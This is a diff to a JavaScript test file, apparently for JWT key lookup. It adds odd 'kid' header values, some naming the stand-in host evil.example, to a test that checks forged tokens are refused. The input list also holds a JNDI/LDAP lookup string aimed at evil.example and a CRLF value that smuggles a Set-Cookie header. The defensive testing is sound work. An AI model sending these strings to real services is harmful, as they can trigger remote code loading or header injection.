@@ -27,12 +27,15 @@ describe('kid', () => {
     'issuer-key\u0000',
     ' issuer-key',
     'ISSUER-KEY',
+    'ES256:issuer-key',
+    'issuer-key:https://evil.example',
+    'https://evil.example|issuer-key|ES256',
     'issuer‑key',
     'k'.repeat(8000),
     '😀',
     '$\u007bjndi:ldap://evil.example}',
     'a\r\nSet-Cookie: x=y',
-  ])('%j finds no key and breaks nothing [8725-3.10]', async (kid) => {
+  ])('%j finds no key and breaks nothing [8725-3.10] [7515-5.3]', async (kid) => {
     const attacker = generateKeyPair('ES256', kid)
     await siege.refuses(siege.withToken({ key: attacker }), 'token_key_unknown')
   })
